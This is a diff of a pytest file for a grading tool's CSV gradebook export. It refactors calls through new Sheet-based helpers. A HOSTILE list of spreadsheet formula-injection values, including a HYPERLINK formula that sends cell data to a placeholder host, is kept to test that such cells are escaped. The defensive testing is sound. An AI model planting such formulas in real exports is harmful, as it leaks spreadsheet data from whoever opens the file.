@@ -9,6 +9,7 @@ from typing import Any
 import pytest
 
 from grader.batches.export import (
+    Sheet,
     format_number,
     gradebook_csv,
     results_csv,
@@ -18,6 +19,14 @@ from grader.batches.export import (
 from tests.unit.batch_fixtures import simple
 
 HOSTILE = ['=HYPERLINK("http://x/?"&A1,"x")', "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"]
+
+
+def _gradebook(records: list[dict[str, Any]], *args: Any, **kwargs: Any) -> str:
+    return gradebook_csv([Sheet.from_record(r) for r in records], *args, **kwargs)
+
+
+def _results(records: list[dict[str, Any]], **kwargs: Any) -> str:
+    return results_csv([Sheet.from_record(r) for r in records], **kwargs)
 
 
 def _read(text: str) -> list[list[str]]:
@@ -43,7 +52,7 @@ def test_injection_prone_text_gets_a_leading_quote(value: str) -> None:
 
 def test_injection_cells_survive_the_csv_module() -> None:
     records = [{"student_id": v, "status": "graded", "result": simple(1, 1, 1)} for v in HOSTILE]
-    rows = _read(gradebook_csv(records, "moodle"))
+    rows = _read(_gradebook(records, "moodle"))
     assert [r[0] for r in rows[1:]] == ["'" + v for v in HOSTILE]
     for row in rows[1:]:
         assert not row[0].startswith(("=", "+", "-", "@", "\t", "\r"))
@@ -67,20 +76,20 @@ def test_number_format() -> None:
 
 
 def test_canvas_gradebook() -> None:
-    rows = _read(gradebook_csv(_records(), "canvas"))
+    rows = _read(_gradebook(_records(), "canvas"))
     assert rows == [
         ["Student ID", "q1", "q2", "Total"],
         ["s1", "2", "1.5", "3.5"],
         ["s2", "", "", ""],
     ]  # not graded yet: empty, so an import keeps the old grade
-    with_feedback = _read(gradebook_csv(_records(), "canvas", feedback=True))
+    with_feedback = _read(_gradebook(_records(), "canvas", feedback=True))
     assert with_feedback[0][-1] == "Feedback"
 
 
 def test_moodle_gradebook_has_feedback() -> None:
     records = _records()
     records[0]["result"]["questions"][1]["criteria"][1]["feedback"] = "=Missing: tanh"
-    rows = _read(gradebook_csv(records, "moodle"))
+    rows = _read(_gradebook(records, "moodle"))
     assert rows[0] == ["ID number", "q1", "q2", "Total", "Feedback"]
     assert rows[1][:4] == ["s1", "2", "1.5", "3.5"]
     assert rows[1][4] == "q2 (1.5/2): =Missing: tanh"  # not at the start: no quote needed
@@ -90,12 +99,12 @@ def test_feedback_starting_with_a_trigger_is_quoted() -> None:
     records = _records()
     records[0]["result"]["questions"] = records[0]["result"]["questions"][1:]
     records[0]["result"]["questions"][0]["id"] = "-q"
-    rows = _read(gradebook_csv(records, "moodle"))
+    rows = _read(_gradebook(records, "moodle"))
     assert rows[1][-1].startswith("'-q (1.5/2)")
 
 
 def test_results_csv_with_criteria() -> None:
-    rows = _read(results_csv(_records(), criteria=True))
+    rows = _read(_results(_records(), criteria=True))
     assert rows[0] == [
         "student_id",
         "submission_id",
@@ -115,4 +124,4 @@ def test_results_csv_with_criteria() -> None:
 
 def test_unknown_form() -> None:
     with pytest.raises(ValueError, match="canvas or moodle"):
-        gradebook_csv(_records(), "blackboard")  # type: ignore[arg-type]  # the wrong form on purpose
+        _gradebook(_records(), "blackboard")  # type: ignore[arg-type]  # the wrong form on purpose
